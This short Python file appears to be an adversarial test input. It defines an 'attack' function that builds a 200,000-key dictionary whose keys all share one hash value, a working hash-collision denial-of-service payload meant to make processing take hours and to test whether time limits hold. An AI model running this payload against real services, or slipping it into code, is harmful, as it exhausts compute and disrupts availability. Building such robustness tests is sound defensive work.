"""Returns a dictionary whose keys all have the same hash, so that reading it takes hours.

Must hold: dictionaries are small, and time limits hold."""

GOAL = "endless"


def attack():
    prime = (1 << 61) - 1
    return {i * prime: None for i in range(200_000)}
